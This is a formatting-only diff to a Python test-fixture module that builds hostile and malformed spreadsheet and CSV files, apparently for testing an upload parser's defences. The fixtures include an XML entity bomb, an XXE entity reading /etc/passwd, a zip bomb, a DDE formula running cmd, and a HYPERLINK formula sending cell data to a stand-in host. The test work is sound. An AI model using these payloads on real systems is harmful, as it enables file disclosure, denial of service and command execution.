@@ -1,4 +1,6 @@
-"""Files that mean harm, or are broken beyond sense: each is made here, and named by what is wrong with it."""
+"""Files that mean harm, or are broken beyond sense: each is made here, and named by
+what is wrong with it.
+"""
 
 import io
 import struct
@@ -19,14 +21,22 @@ MB = 1 << 20
 
 Make = Callable[[Path], Path]
 HOSTILE: dict[str, tuple[str, Make, str]] = {}
-"""By what is wrong: the ending of the file's name, how it is made, and what the sentence says ("" where it is read)."""
+"""By what is wrong: the ending of the file's name, how it is made, and what the
+sentence says ("" where it is read).
+"""
 
 
-def hostile(ending: str, says: str) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
+def hostile(
+    ending: str, says: str
+) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
     """Declare a file by the function that gives its bytes."""
 
     def declare(content: Callable[[], bytes]) -> Callable[[], bytes]:
-        HOSTILE[content.__name__] = (ending, lambda path: _written(path, content()), says)
+        HOSTILE[content.__name__] = (
+            ending,
+            lambda path: _written(path, content()),
+            says,
+        )
         return content
 
     return declare
@@ -37,7 +47,9 @@ def _written(path: Path, content: bytes) -> Path:
     return path
 
 
-def book(sheet: str | bytes, strings: str | bytes | None = None, **more: bytes) -> bytes:
+def book(
+    sheet: str | bytes, strings: str | bytes | None = None, **more: bytes
+) -> bytes:
     """An XLSX with one sheet, its parts as given."""
     main = "application/vnd.openxmlformats-officedocument.spreadsheetml"
     rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
@@ -61,7 +73,12 @@ def book(sheet: str | bytes, strings: str | bytes | None = None, **more: bytes) 
         "xl/sharedStrings.xml": strings or f"<sst {_NS}></sst>",
         **more,
     }
-    return packed({name: part.encode() if isinstance(part, str) else part for name, part in parts.items()})
+    return packed(
+        {
+            name: part.encode() if isinstance(part, str) else part
+            for name, part in parts.items()
+        }
+    )
 
 
 def sheet(rows: str, before: str = "") -> str:
@@ -78,7 +95,10 @@ def header_row() -> str:
     """The header and a row that can be read, as rows 1 and 2 of a sheet."""
     cells = [line.split(",") for line in CSV.decode().splitlines()]
     return "".join(
-        f'<row r="{at}">{"".join(text(f"{letter}{at}", cell) for letter, cell in zip("ABCDE", row, strict=True))}</row>'
+        (
+            "<row "
+            f'r="{at}">{"".join(text(f"{letter}{at}", cell) for letter, cell in zip("ABCDE", row, strict=True))}</row>'
+        )
         for at, row in enumerate(cells, start=1)
     )
 
@@ -159,14 +179,21 @@ def zip_packed_otherwise() -> bytes:
 
 @hostile("xlsx", "damaged")
 def xlsx_with_an_xml_bomb() -> bytes:
-    entities = '<!ENTITY a0 "lol">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
-    return book(sheet(f'<row r="1">{text("A1", "&a9;")}</row>', f"<!DOCTYPE x [{entities}]>"))
+    entities = '<!ENTITY a0 "lol">' + "".join(
+        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)
+    )
+    return book(
+        sheet(f'<row r="1">{text("A1", "&a9;")}</row>', f"<!DOCTYPE x [{entities}]>")
+    )
 
 
 @hostile("xlsx", "damaged")
 def xlsx_that_asks_for_a_file_of_the_computer() -> bytes:
     return book(
-        sheet(f'<row r="1">{text("A1", "&x;")}</row>', '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>')
+        sheet(
+            f'<row r="1">{text("A1", "&x;")}</row>',
+            '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
+        )
     )
 
 
@@ -177,20 +204,29 @@ def xlsx_that_is_a_zip_bomb() -> bytes:
 
 @hostile("xlsx", "a stray cell far away")
 def xlsx_of_17_billion_cells() -> bytes:
-    return book(sheet(f'{header_row()}<row r="1048576">{text("XFD1048576", "x")}</row>'))
+    return book(
+        sheet(f'{header_row()}<row r="1048576">{text("XFD1048576", "x")}</row>')
+    )
 
 
 @hostile("xlsx", "")
 def xlsx_of_a_million_empty_cells() -> bytes:
-    empty = "".join(f'<row r="{n}">{"".join(f"<c r={chr(34)}{c}{n}{chr(34)}/>" for c in "ABCDEFGHIJ")}</row>'
-                    for n in range(3, 50_003))  # fmt: skip
+    empty = "".join(
+        (
+            "<row "
+            f'r="{n}">{"".join(f"<c r={chr(34)}{c}{n}{chr(34)}/>" for c in "ABCDEFGHIJ")}</row>'
+        )
+        for n in range(3, 50_003)
+    )
     return book(sheet(header_row() + empty))
 
 
 @hostile("xlsx", "larger than spreadsheets")
 def xlsx_with_one_long_text_everywhere() -> bytes:
     strings = f"<sst {_NS}><si><t>{'x' * 32_000}</t></si></sst>"
-    rows = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 60_000))
+    rows = "".join(
+        f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 60_000)
+    )
     return book(sheet(rows), strings)
 
 
@@ -206,7 +242,11 @@ def xlsx_cut_off() -> bytes:
 
 @hostile("xlsx", "")
 def xlsx_with_links_and_formulas() -> bytes:
-    formula = '<c r="E2" t="str"><f>HYPERLINK("http://example.invalid/"&amp;A1,"x")</f><v>=cmd|"/c calc"!A1</v></c>'
+    formula = (
+        '<c r="E2" '
+        't="str"><f>HYPERLINK("http://example.invalid/"&amp;A1,"x")</f><v>=cmd|"/c '
+        'calc"!A1</v></c>'
+    )
     link = b'<externalLink xmlns:r="r"><externalBook r:id="rId1"/></externalLink>'
     rows = header_row().replace(text("E2", "note"), formula)
     return book(sheet(rows), **{"xl/externalLinks/externalLink1.xml": link})
@@ -215,7 +255,8 @@ def xlsx_with_links_and_formulas() -> bytes:
 @hostile("ods", "larger than spreadsheets|stray cell")
 def ods_of_17_billion_cells() -> bytes:
     names = " ".join(
-        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in ("office", "table", "text")
+        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
+        for name in ("office", "table", "text")
     )
     content = (
         f'<office:document-content {names}><office:body><office:spreadsheet><table:table table:name="S">'
@@ -229,7 +270,8 @@ def ods_of_17_billion_cells() -> bytes:
 
 @hostile("xls", "a stray cell far away")
 def xls_of_17_million_cells() -> bytes:
-    old, held = xlwt.Workbook(), io.BytesIO()
+    old = xlwt.Workbook()
+    held = io.BytesIO()
     page = old.add_sheet("S")
     page.write(0, 0, "x")
     page.write(65_535, 255, "x")
@@ -239,7 +281,10 @@ def xls_of_17_million_cells() -> bytes:
 
 @hostile("xls", "damaged")
 def xls_of_garbage() -> bytes:
-    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + zlib.crc32(b"x").to_bytes(4, "little") * 50_000
+    return (
+        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
+        + zlib.crc32(b"x").to_bytes(4, "little") * 50_000
+    )
 
 
 @hostile("csv", "columns")
@@ -289,7 +334,8 @@ def csv_of_2_million_crooked_rows() -> bytes:
 
 @hostile("csv", "not a text file|not a file we know")
 def csv_that_is_noise() -> bytes:
-    noise, seed = bytearray(), b"noise"
+    noise = bytearray()
+    seed = b"noise"
     while len(noise) < MB:
         seed = zlib.crc32(seed).to_bytes(4, "little") + seed[:4]
         noise += seed
